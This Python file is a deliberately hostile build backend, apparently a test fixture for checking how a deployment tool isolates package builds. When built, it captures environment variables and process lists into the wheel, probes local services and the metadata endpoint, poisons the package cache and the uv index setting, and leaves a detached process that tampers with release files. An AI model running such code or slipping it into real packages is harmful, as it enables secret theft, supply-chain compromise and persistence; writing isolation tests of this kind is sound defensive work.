"""What a dependency may run while it is built (PEP 517), and what it leaves behind: the package's own build backend.

It needs no other package. What it found out is in the wheel that it makes, as `loot.json`: where a release's packages
are, it can be read after the build. A process of its own stays as long as nobody ends it.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import socket
import subprocess
import sys
import time
import zipfile
from pathlib import Path

#: What whoever attacks writes wherever it can
MARK = "POISONED"
#: The process that stays calls itself so
STAYS = "outlives-its-build"
SECONDS = 120
#: A file of root's alone, which the test has made
ROOTS_FILE = "/etc/attacked"
CONNECTIONS = [
    ("127.0.0.1", 22), ("127.0.0.1", 443), ("127.0.0.1", 5432), ("::1", 22), ("169.254.169.254", 80),
    ("pypi.org", 443), ("1.1.1.1", 53),
]  # fmt: skip
SOCKETS = [
    "/run/postgresql/.s.PGSQL.5432", "/run/redis/redis-server.sock", "/run/dbus/system_bus_socket",
    "/run/noticeboard/live.sock", "/run/systemd/private", "/run/systemd/journal/stdout",
]  # fmt: skip
FOLDERS = [
    "/srv", "/srv/noticeboard", "/srv/noticeboard/releases", "/srv/noticeboard/venvs", "/srv/noticeboard/shared",
    "/srv/noticeboard/shared/media", "/var/cache/samestack", "/var/cache/samestack/noticeboard",
    "/var/cache/samestack/noticeboard/uv", "/var/cache/samestack/noticeboard/build", "/var/lib/samestack",
    "/run/lock", "/run", "/etc", "/opt/samestack/uv", "/usr/local/lib/samestack", "/var/spool/cron/crontabs",
    "/var/lib/systemd/linger",
]  # fmt: skip
SHARED = ["/dev/shm", "/tmp", "/var/tmp"]
IPC_CREATE = 0o1666


def build_wheel(wheel_directory: str, *_options: object) -> str:
    """Attack, and make the wheel."""
    name = "hostile-1.0-py3-none-any.whl"
    info = "hostile-1.0.dist-info/"
    files = {
        "hostile/__init__.py": "",
        "hostile/loot.json": json.dumps(attack(Path.cwd().parents[1])),
        info + "METADATA": "Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n",
        info + "WHEEL": "Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    with zipfile.ZipFile(Path(wheel_directory, name), "w") as wheel:
        for path, text in files.items():
            wheel.writestr(path, text)
        wheel.writestr(info + "RECORD", "".join(f"{path},,\n" for path in [*files, info + "RECORD"]))
    return name


def attack(source: Path) -> dict[str, object]:
    """Try everything once; returns what succeeded."""
    release = source.parent
    loot: dict[str, object] = {
        "uid": os.getuid(),
        "environment": dict(os.environ),
        "processes": strangers(),
        "reached": [f"{host}:{port}" for host, port in CONNECTIONS if connects(host, port)],
        "sockets": [path for path in SOCKETS if speaks(path)],
        "written": [path for path in FOLDERS if writes(path)],
        "others": [str(path) for path in Path("/srv").glob("*") if path.name != "noticeboard"],
        "cached": poison_cache(),
        "shared_memory": ctypes.CDLL(None).shmget(0x5A5A, 64, IPC_CREATE),
        "lingers": subprocess.run(["loginctl", "enable-linger"], capture_output=True, check=False).returncode == 0,
    }
    for path in (*(Path(top, MARK) for top in SHARED), Path.home() / ".config/uv/uv.toml"):
        with contextlib.suppress(OSError):
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(f'index-url = "https://{MARK}.example/"\n')
    stay(release)
    return loot


def strangers() -> list[str]:
    """Return what is seen of processes that are not part of this build."""
    found = []
    mine = {os.getpid(), os.getppid()}
    for folder in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            words = (folder / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            if int(folder.name) not in mine and "uv" not in words and "python" not in words:
                found.append(words)
    return found


def connects(host: str, port: int) -> bool:
    """Return whether something answers there."""
    try:
        socket.create_connection((host, port), timeout=1).close()
    except OSError:
        return False
    return True


def speaks(path: str) -> bool:
    """Return whether a socket takes a connection."""
    with socket.socket(socket.AF_UNIX) as connection:
        try:
            connection.connect(path)
        except OSError:
            return False
    return True


def writes(folder: str) -> bool:
    """Return whether a file can be made there."""
    try:
        Path(folder, MARK).write_text(MARK)
    except OSError:
        return False
    return True


def poison_cache() -> list[str]:
    """Change what a later build might take from the folders of packages."""
    found = []
    for top in (os.environ.get("UV_CACHE_DIR", ""), "/var/cache/samestack/noticeboard/uv"):
        for path in Path(top or "/nonexistent").rglob("django/__init__.py"):
            with contextlib.suppress(OSError):
                path.chmod(0o666)
                path.write_text(f"{MARK} = True\n{path.read_text()}")
                found.append(str(path))
    return found


def stay(release: Path) -> None:
    """Leave a process behind that belongs to nobody: it has files of this build open, and waits for the next."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for number in (0, 1, 2):
        os.dup2(null, number)
    # As a program of its own, so that it can be told by its name
    program = "import sys; sys.path.insert(0, sys.argv[1]); import backend; backend.wait(sys.argv[2])"
    os.execv(sys.executable, [STAYS, "-c", program, str(Path(__file__).parent), str(release)])


def wait(release: str) -> None:
    """Write to this build's files once they are sealed, and change whatever is built next."""
    here = Path(release)
    tops = [here / "source", here / "static", Path(os.path.realpath(here / "venv"))]
    held = [os.open(path, os.O_WRONLY | os.O_APPEND) for path in (here / "source").rglob("*.py")]
    folders = [os.open(top, os.O_RDONLY) for top in tops if top.is_dir()]
    until = time.monotonic() + SECONDS
    while time.monotonic() < until:
        if (here / "release.json").exists():
            for file in held:
                with contextlib.suppress(OSError):
                    os.write(file, f"# {MARK}\n".encode())
            for folder in folders:
                with contextlib.suppress(OSError):
                    os.close(os.open(MARK, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=folder))
        for other in Path(here.parent).glob("*"):
            if other.name != here.name and not (other / "release.json").exists():
                spoil(other)


def spoil(other: Path) -> None:
    """Write into a release that is being built."""
    with contextlib.suppress(OSError), (other / "source/board/views.py").open("a") as file:
        file.write(f"\n# {MARK}\n")
